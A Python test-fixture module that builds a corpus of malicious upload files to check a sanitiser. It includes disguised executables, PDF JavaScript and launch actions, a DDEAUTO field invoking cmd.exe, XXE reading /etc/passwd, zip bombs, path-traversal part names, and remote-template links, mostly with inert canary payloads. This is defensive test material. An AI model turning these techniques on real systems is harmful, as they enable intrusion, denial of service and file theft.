"""Files that are sent to do harm, made by code so that none lies in the repository."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from . import good

REFUSED, HARMLESS = "refused", "harmless"
CANARY = b"canary-7f3a"
SCRIPT = b"<script>alert('canary-7f3a')</script>"
# The scanners' own test file, in pieces, so that a scanner lets this file be.
EICAR = "".join(
    ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-", "STANDARD-", "ANTIVIRUS-", "TEST-FILE!", "$H+H*")
).encode()


@dataclass(frozen=True)
class Hostile:
    """One file, and its fate. Of a harmless one the ``payload`` is gone."""

    what: str
    name: str
    make: Callable[[], bytes]
    fate: str = REFUSED
    payload: bytes = CANARY


def executable() -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(200)


def archive() -> bytes:
    return good.packed({"canary-7f3a.class": b"\xca\xfe\xba\xbe"}, zipfile.ZIP_STORED)


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


# Pictures


def gif() -> bytes:
    return good.saved(good.picture(), "GIF")


def chunk(kind: bytes, data: bytes) -> bytes:
    checked = struct.pack("!L", zlib.crc32(kind + data))
    return struct.pack("!L", len(data)) + kind + data + checked


def huge_png(width: int, height: int) -> bytes:
    """Says that it is huge, and holds next to nothing."""
    head = chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def packed_png() -> bytes:
    """A real picture of 64 million equal points."""
    return good.saved(Image.new("1", (8_000, 8_000)), "PNG")


def huge_jpeg() -> bytes:
    data = good.jpeg()
    start = data.index(b"\xff\xc0")
    return data[: start + 5] + struct.pack("!HH", 65_000, 65_000) + data[start + 9 :]


def png_with_words() -> bytes:
    words = PngInfo()
    words.add_text("Comment", SCRIPT.decode(), zip=False)
    return good.png(pnginfo=words)


def moving_png() -> bytes:
    frames = [good.picture(), Image.new("RGB", (64, 48), "green")]
    return good.saved(frames[0], "PNG", save_all=True, append_images=frames[1:]).replace(
        b"IEND", b"IEND", 1
    )


def png_with_wrong_sum() -> bytes:
    data = bytearray(good.png())
    data[data.index(b"IDAT") + 8] ^= 0xFF
    return bytes(data)


def jpeg_with_segment(marker: bytes, content: bytes) -> bytes:
    data = good.jpeg()
    segment = b"\xff" + marker + struct.pack("!H", len(content) + 2) + content
    return data[:2] + segment + data[2:]


def heic_huge() -> bytes:
    """The size that the file says first is not one that we open."""
    data = good.heic()
    start = data.index(b"ispe") + 8
    return data[:start] + struct.pack("!LL", 60_000, 60_000) + data[start + 8 :]


# PDF


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert('canary-7f3a')")


def root(**values: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in values.items():
            document.Root[f"/{key}"] = value

    return good.pdf_with(change)


def annotated(**values: Any) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 10, 10], **values)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return good.pdf_with(change)


def with_file_inside() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["canary-7f3a.exe"] = executable() + CANARY

    return good.pdf_with(change)


def with_script_by_name() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = document.make_indirect(script())
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["go", action])))

    return good.pdf_with(change)


def with_script_as_stream() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        code = document.make_stream(b"app.alert('canary-7f3a')")
        document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)

    return good.pdf_with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_chained_script() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        following = document.make_indirect(script())
        document.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=following)

    return good.pdf_with(change)


def with_form_script() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        field = Dictionary(FT=Name.Tx, T="total", AA=Dictionary(C=script()))
        document.Root.AcroForm = Dictionary(
            Fields=Array([document.make_indirect(field)]),
            XFA=document.make_stream(b"<xdp>canary-7f3a</xdp>"),
        )

    return good.pdf_with(change)


def with_outside_bytes() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = Stream(document, b" ")
        stream.F = "//canary-7f3a/share"
        document.pages[0].Contents = stream

    return good.pdf_with(change)


def with_hidden_key() -> bytes:
    """The key of a script, with one letter written as a number."""
    return (
        root(OpenAction=script())
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/J#53")
    )


def one_page_many_times() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        page = document.pages[0].obj
        document.Root.Pages.Kids = Array([page] * 20_000)
        document.Root.Pages.Count = 20_000

    return good.pdf_with(change)


def pages_in_a_ring() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        tree = document.Root.Pages
        tree.Kids = Array([tree])

    return good.pdf_with(change)


def deep_pdf() -> bytes:
    return good.pdf().replace(
        b"/Type /Pages", b"/Deep " + b"[" * 5_000 + b"]" * 5_000 + b"/Type /Pages"
    )


# Word documents


def word(**parts: str | bytes) -> bytes:
    """A document with parts of these names: ``_`` stands for ``/`` and ``0`` for a dot."""
    return good.docx(
        {name.replace("_", "/").replace("0", "."): part for name, part in parts.items()}
    )


def related(kind: str, target: str, mode: str = "External") -> bytes:
    return good.docx({"word/_rels/document.xml.rels": good.relations((kind, target, mode))})


def settings_related(kind: str, target: str) -> bytes:
    return good.docx(
        {
            "word/settings.xml": "<settings/>",
            "word/_rels/settings.xml.rels": good.relations((kind, target, "External")),
        }
    )


def typed(main: str = good.MAIN, more: str = "") -> bytes:
    return good.docx({"[Content_Types].xml": good.content_types(main, more)})


def field(words: str) -> bytes:
    """A field, its words spread over two runs as Word does and as hiding does."""
    half = len(words) // 2
    runs = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:half], words[half:])
    )
    return good.docx({"word/document.xml": good.body(f"<w:p>{runs}</w:p>")})


def with_declaration(declaration: str, encoding: str = "utf-8") -> bytes:
    text = good.body("<w:p>&canary;</w:p>", before=declaration)
    text = text.replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
    return good.docx({"word/document.xml": text.encode(encoding)})


def bomb() -> bytes:
    return good.docx({"word/media/image2.png": bytes(120_000_000)})


def small_bomb() -> bytes:
    """Under the limit in all, but packed as no text is."""
    return good.docx({"word/footnotes.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})


def many_parts() -> bytes:
    return good.docx({f"word/media/image{number}.png": b"" for number in range(2_500)})


def lying_about_size() -> bytes:
    """The directory says 10 bytes where many come out."""
    data = bytearray(good.docx({"word/big.xml": bytes(5_000_000)}))
    at = data.rindex(b"word/big.xml") - 46 + 24
    data[at : at + 4] = struct.pack("<L", 10)
    return bytes(data)


def locked_word() -> bytes:
    data = bytearray(good.docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def same_part_twice() -> bytes:
    return good.docx({"WORD/document.xml": good.body("<w:p>canary-7f3a</w:p>")})


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def halved(make: Callable[[], bytes]) -> Callable[[], bytes]:
    return lambda: make()[: len(make()) // 2]


ENTITY = '<!DOCTYPE w:document [<!ENTITY canary SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY canary "&b;&b;&b;">]>'
)
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'

CORPUS = (
    # Not what the name says
    Hostile("nothing at all", "empty.pdf", bytes),
    Hostile("only zeros", "zeros.pdf", lambda: bytes(4_000)),
    Hostile("a program as a PDF", "bill.pdf", executable),
    Hostile("a program as a photo", "bill.jpg", executable),
    Hostile("a program under its name", "bill.exe", executable),
    Hostile("a program with two endings", "bill.pdf.exe", executable),
    Hostile("a program with its ending first", "bill.exe.pdf", executable),
    Hostile("a program for Linux as a Word document", "bill.docx", lambda: b"\x7fELF" + bytes(90)),
    Hostile("a shell script as a photo", "photo.png", lambda: b"#!/bin/sh\nrm -rf canary-7f3a\n"),
    Hostile("PHP as a photo", "photo.jpg", lambda: b"<?php system('canary-7f3a'); ?>"),
    Hostile("PHP under a double ending", "photo.php.jpg", lambda: b"<?php system('x'); ?>"),
    Hostile("a web page as a photo", "photo.jpg", lambda: b"<!doctype html>" + SCRIPT),
    Hostile("a web page as a PDF", "letter.pdf", lambda: b"<!doctype html>" + SCRIPT),
    Hostile("a web page under its name", "letter.html", lambda: b"<!doctype html>" + SCRIPT),
    Hostile("a drawing with a script", "drawing.svg", svg),
    Hostile("a drawing with a script as a photo", "drawing.png", svg),
    Hostile("the scanners' test file", "eicar.com", lambda: EICAR),
    Hostile("the scanners' test file as a PDF", "eicar.pdf", lambda: EICAR),
    Hostile("a GIF as a JPEG", "photo.jpg", gif),
    Hostile("a GIF that is also an archive", "photo.jpg", lambda: gif() + archive()),
    Hostile("a PNG as a PDF", "letter.pdf", good.png),
    Hostile("a PDF as a photo", "photo.jpg", good.pdf),
    Hostile("a Word document as a PDF", "letter.pdf", good.docx),
    Hostile("any archive as a Word document", "letter.docx", archive),
    Hostile("a web page hidden in a name", "a.jpg\0.html", good.jpeg),
    Hostile("a name that reads backwards", "photo\u202egpj.exe", good.jpeg),
    Hostile("no ending", "photo", good.jpeg),
    Hostile("nothing but an ending", ".jpg", executable),
    Hostile("a text file", "letter.txt", lambda: b"Dear council"),
    # Pictures
    Hostile("a photo and an archive", "photo.jpg", lambda: good.jpeg() + archive(), HARMLESS),
    Hostile("a photo and a web page", "photo.jpg", lambda: good.jpeg() + SCRIPT, HARMLESS),
    Hostile(
        "a photo with a script in its comment",
        "photo.jpg",
        lambda: jpeg_with_segment(b"\xfe", SCRIPT),
        HARMLESS,
    ),
    Hostile(
        "a photo with a script in its notes",
        "photo.jpg",
        lambda: jpeg_with_segment(b"\xe1", b"Exif\0\0" + SCRIPT),
        HARMLESS,
    ),
    Hostile(
        "a photo with a script in its profile",
        "photo.jpg",
        lambda: good.jpeg(icc_profile=SCRIPT),
        HARMLESS,
    ),
    Hostile(
        "a photo and the scanners' test file",
        "photo.jpg",
        lambda: good.jpeg() + EICAR,
        HARMLESS,
        EICAR,
    ),
    Hostile("a PNG and PHP", "photo.png", lambda: good.png() + b"<?php canary-7f3a", HARMLESS),
    Hostile("a PNG with a script in its words", "photo.png", png_with_words, HARMLESS),
    Hostile("a PNG that moves", "photo.png", moving_png, HARMLESS, b"acTL"),
    Hostile("a photo cut in half", "photo.jpg", halved(lambda: good.jpeg(quality=95))),
    Hostile("a PNG cut in half", "photo.png", halved(good.png)),
    Hostile("a HEIC cut in half", "photo.heic", halved(good.heic)),
    Hostile("the first bytes of a photo", "photo.jpg", lambda: good.jpeg()[:20]),
    Hostile("a PNG with a wrong sum", "photo.png", png_with_wrong_sum),
    Hostile("a PNG that says it is huge", "photo.png", lambda: huge_png(60_000, 60_000)),
    Hostile("a PNG of no width", "photo.png", lambda: huge_png(0, 10)),
    Hostile("a PNG of 64 million points", "photo.png", packed_png),
    Hostile("a photo that says it is huge", "photo.jpg", huge_jpeg),
    Hostile("a HEIC that says it is huge", "photo.heic", heic_huge),
    Hostile("a film as a HEIC", "photo.heic", lambda: b"\0\0\0\x18ftypisom" + bytes(400)),
    # PDF
    Hostile("a PDF and an archive", "letter.pdf", lambda: good.pdf() + archive(), HARMLESS),
    Hostile("an archive before a PDF", "letter.pdf", lambda: archive() + good.pdf()),
    Hostile("a web page before a PDF", "letter.pdf", lambda: SCRIPT + good.pdf()),
    Hostile("a PDF far from its end", "letter.pdf", lambda: good.pdf() + bytes(9_000) + archive()),
    Hostile("a script when it opens", "letter.pdf", lambda: root(OpenAction=script()), HARMLESS),
    Hostile("a script by name", "letter.pdf", with_script_by_name, HARMLESS),
    Hostile("a script packed away", "letter.pdf", with_script_as_stream, HARMLESS),
    Hostile("a script after something else", "letter.pdf", with_chained_script, HARMLESS),
    Hostile("a script in a form", "letter.pdf", with_form_script, HARMLESS),
    Hostile("a script with a hidden key", "letter.pdf", with_hidden_key, HARMLESS),
    Hostile(
        "a script when a page opens",
        "letter.pdf",
        lambda: annotated(Subtype=Name.Link, AA=Dictionary(E=script())),
        HARMLESS,
    ),
    Hostile(
        "a program that starts",
        "letter.pdf",
        lambda: root(OpenAction=Dictionary(S=Name.Launch, F="canary-7f3a.exe")),
        HARMLESS,
    ),
    Hostile(
        "a form that sends itself",
        "letter.pdf",
        lambda: annotated(
            Subtype=Name.Link,
            A=Dictionary(
                S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://canary-7f3a.example")
            ),
        ),
        HARMLESS,
    ),
    Hostile(
        "a link that is a script",
        "letter.pdf",
        lambda: annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="javascript:alert('canary-7f3a')")
        ),
        HARMLESS,
    ),
    Hostile(
        "a link to a file",
        "letter.pdf",
        lambda: annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="//canary-7f3a/share", D=[0, Name.Fit])
        ),
        HARMLESS,
    ),
    Hostile("a file inside a PDF", "letter.pdf", with_file_inside, HARMLESS),
    Hostile(
        "a film inside a PDF",
        "letter.pdf",
        lambda: annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Name="canary-7f3a")),
        HARMLESS,
    ),
    Hostile("bytes of another file", "letter.pdf", with_outside_bytes, HARMLESS),
    Hostile("a PDF with a password", "letter.pdf", lambda: good.locked_pdf(to_open="secret")),
    Hostile("a PDF cut in half", "letter.pdf", halved(good.pdf)),
    Hostile("only the first line of a PDF", "letter.pdf", lambda: b"%PDF-1.7\n"),
    Hostile("a PDF of nothing", "letter.pdf", lambda: b"%PDF-1.7\n%%EOF\n"),
    Hostile("a PDF without pages", "letter.pdf", lambda: good.pdf(pages=0)),
    Hostile("a PDF of very many pages", "letter.pdf", lambda: good.pdf(pages=600)),
    Hostile("one page many times", "letter.pdf", one_page_many_times),
    Hostile("pages in a ring", "letter.pdf", pages_in_a_ring),
    Hostile("brackets without end", "letter.pdf", deep_pdf),
    # Word documents
    Hostile("macros", "letter.docx", lambda: good.docx({"word/vbaProject.bin": b"canary-7f3a"})),
    Hostile("a document for macros", "letter.docx", lambda: typed(DOCM)),
    Hostile("a type for macros", "letter.docx", lambda: typed(more=VBA)),
    Hostile("no type at all", "letter.docx", lambda: typed("text/plain")),
    Hostile("a document for macros by name", "letter.docm", good.docx),
    Hostile(
        "a template from elsewhere",
        "letter.docx",
        lambda: settings_related("attachedTemplate", "https://canary-7f3a.example/a.dotm"),
    ),
    Hostile(
        "a picture from elsewhere",
        "letter.docx",
        lambda: related("image", "https://canary-7f3a.example/pixel.png"),
    ),
    Hostile(
        "an object from elsewhere",
        "letter.docx",
        lambda: related("oleObject", "mhtml:https://canary-7f3a.example/a!x-usc:"),
    ),
    Hostile(
        "an object inside",
        "letter.docx",
        lambda: good.docx({"word/embeddings/oleObject1.bin": b"canary-7f3a"}),
    ),
    Hostile(
        "another document inside",
        "letter.docx",
        lambda: good.docx(
            {"word/_rels/document.xml.rels": good.relations(("aFChunk", "chunk.xml", ""))}
        ),
    ),
    Hostile("a web page inside", "letter.docx", lambda: good.docx({"word/afchunk.html": SCRIPT})),
    Hostile(
        "a control inside",
        "letter.docx",
        lambda: good.docx({"word/activeX/activeX1.xml": "<ocx/>"}),
    ),
    Hostile(
        "a link to a folder",
        "letter.docx",
        lambda: related("hyperlink", "file://canary-7f3a/share"),
    ),
    Hostile(
        "a link that is a script",
        "letter.docx",
        lambda: related("hyperlink", "javascript:alert(1)"),
    ),
    Hostile(
        "a relation to a share",
        "letter.docx",
        lambda: related("image", "\\\\canary-7f3a\\share\\a.png", ""),
    ),
    Hostile(
        "a field that runs a program",
        "letter.docx",
        lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k canary"'),
    ),
    Hostile(
        "a field that reads a file",
        "letter.docx",
        lambda: field('INCLUDETEXT "file:///etc/passwd"'),
    ),
    Hostile("an entity that reads a file", "letter.docx", lambda: with_declaration(ENTITY)),
    Hostile("the same in other letters", "letter.docx", lambda: with_declaration(ENTITY, "utf-16")),
    Hostile("entities that multiply", "letter.docx", lambda: with_declaration(LAUGHS)),
    Hostile("a document that unpacks to much", "letter.docx", bomb),
    Hostile("a document packed too well", "letter.docx", small_bomb),
    Hostile("very many parts", "letter.docx", many_parts),
    Hostile("a part that lies about its size", "letter.docx", lying_about_size),
    Hostile("a part outside", "letter.docx", lambda: good.docx({"../../canary.xml": "<a/>"})),
    Hostile("a part from the root", "letter.docx", lambda: good.docx({"/etc/canary.xml": "<a/>"})),
    Hostile(
        "a part with backslashes",
        "letter.docx",
        lambda: good.docx({"word\\..\\canary.xml": "<a/>"}),
    ),
    Hostile(
        "a program among the parts",
        "letter.docx",
        lambda: good.docx({"word/canary.exe": executable()}),
    ),
    Hostile("a part twice", "letter.docx", same_part_twice),
    Hostile("a Word document with a password on its parts", "letter.docx", locked_word),
    Hostile("an old or locked Word document", "letter.docx", old_word),
    Hostile("a Word document cut in half", "letter.docx", halved(good.docx)),
    Hostile(
        "a Word document and a program before it", "letter.docx", lambda: executable() + good.docx()
    ),
    Hostile(
        "a Word document and a web page after it",
        "letter.docx",
        lambda: good.docx() + SCRIPT,
        HARMLESS,
    ),
)
